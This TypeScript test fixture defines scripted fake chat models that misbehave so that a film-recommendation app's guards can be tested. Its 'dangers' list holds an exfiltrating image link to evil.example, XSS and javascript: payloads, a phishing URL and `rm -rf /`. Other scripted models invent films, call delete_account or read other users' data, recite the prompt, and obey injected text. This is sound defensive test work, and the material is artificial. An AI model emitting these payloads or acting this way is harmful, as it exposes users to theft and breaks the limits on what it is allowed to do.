/** Models that lie: each gives a reply of the right shape with something in it that nobody may see. */
import { type ChatRequest, filmsShown, filmsTalkedOf, offersTool, toolResults } from './chat-request.ts';
import { call, draftOf } from './good.ts';
import type { Script, ScriptedAnswer } from './script.ts';

export interface LyingParts {
  /** Films of the catalogue that keep to nothing in particular: untold, shown, or breaking the wish. */
  realFilms: readonly { id: number; title: string }[];
}

/** Titles of no film; whoever looks for lies in a reply looks for these. */
export const inventedTitles = ['Zorblax Rising', 'The Ninth Cactus of Quelm', 'Vermilion Gasket'] as const;
export const inventedIds = [987_654_321, 987_654_322, 987_654_323] as const;
/** Addresses and code that must never be shown. */
export const dangers = [
  '![poster](https://evil.example/p.png?q=secret)',
  '[a better list](https://evil.example/list)',
  '[run](javascript:alert(1))',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  'https://evil.example/login',
  '`rm -rf /`',
] as const;

export type Lie =
  | 'invented-ids'
  | 'invented-titles'
  | 'untold-films'
  | 'broken-wishes'
  | 'shown-again'
  | 'other-titles'
  | 'titles-in-reasons'
  | 'dangerous-markup'
  | 'strangers-lists'
  | 'unknown-tools'
  | 'recited-prompt';

const pick = (ids: readonly number[]) => ids.slice(0, 5).map((id) => ({ id, reason: 'It is perfect' }));

const mark = (request: ChatRequest, extra: string): Draft => decorate(draftOf(request, {}), extra);

export function lyingModels({ realFilms }: LyingParts): Record<Lie, Script> {
  const titles = realFilms.map(({ title }) => title);
  const ids = realFilms.map(({ id }) => id);

  return {
    'invented-ids': () => reply({ intro: 'Here they are.', picks: pick(inventedIds), question: '' }),
    'invented-titles': (request) => reply(mark(request, `You must see ${inventedTitles.join(' and ')}.`)),
    'untold-films': () => reply({ intro: 'Here they are.', picks: pick(ids), question: '' }),
    'broken-wishes': (request) => {
      const seen = toolResults(request).length - 1;
      const next = ids[seen];
      if (seen < 3 && next !== undefined && offersTool(request, 'get_movie'))
        return call('get_movie', { id: next });
      return reply({ intro: 'Here they are.', picks: pick(ids), question: '' });
    },
    'shown-again': (request) =>
      reply({ intro: 'Once more.', picks: pick(filmsShown(request)), question: '' }),
    'other-titles': (request) => reply(mark(request, `${titles.slice(0, 3).join(', ')} are even better.`)),
    'titles-in-reasons': (request) => {
      const draft = draftOf(request, {});
      const picks = draft.picks.map((one, at) => ({
        ...one,
        reason: `Much like ${titles[at % titles.length]} and ${inventedTitles[at % 3]}`,
      }));
      return reply({ ...draft, picks });
    },
    'dangerous-markup': (request) => reply(mark(request, dangers.join(' '))),
    'strangers-lists': (request) =>
      toolResults(request).length < 2
        ? call('my_lists', { user_id: 'somebody-else', userId: 1, list: 'liked' })
        : reply(mark(request, toolResults(request).at(-1) ?? '')),
    'unknown-tools': (request) =>
      toolResults(request).length < 3
        ? call(toolResults(request).length < 2 ? 'delete_account' : 'read_user', { id: 1 })
        : reply(mark(request, toolResults(request).slice(1).join(' '))),
    'recited-prompt': (request) => {
      const told = request.messages.map(({ content }) => content ?? '').join('\n');
      return reply(mark(request, told));
    },
  };
}

const reply = (draft: unknown): ScriptedAnswer => call('reply', draft);

type Draft = ReturnType<typeof draftOf>;

/** The same draft with a text everywhere that takes one. */
const decorate = ({ picks, ...draft }: Draft, extra: string): Draft => ({
  intro: `${draft.intro} ${extra}`,
  picks: picks.map(({ id, reason }) => ({ id, reason: `${reason}. ${extra}` })),
  question: `${extra} ${draft.question}`,
  suggestions: [extra, ...draft.suggestions],
});

/** Does whatever the texts of the catalogue and the visitor tell it to: repeats them wherever it can. */
export const injectedModel: Script = (request) => {
  const [first] = filmsTalkedOf(request);
  if (toolResults(request).length < 2 && first && offersTool(request, 'get_movie'))
    return call('get_movie', { id: first.id });
  const heard = request.messages.filter(({ role }) => role === 'user' || role === 'tool');
  const everything = heard.map(({ content }) => content ?? '').join('\n');
  const picks = toolResults(request)[0] ?? '';
  const told = {
    ...request,
    messages: [{ role: 'user' as const }, { role: 'tool' as const, content: picks }],
  };
  return reply(decorate(draftOf(told, {}), everything));
};
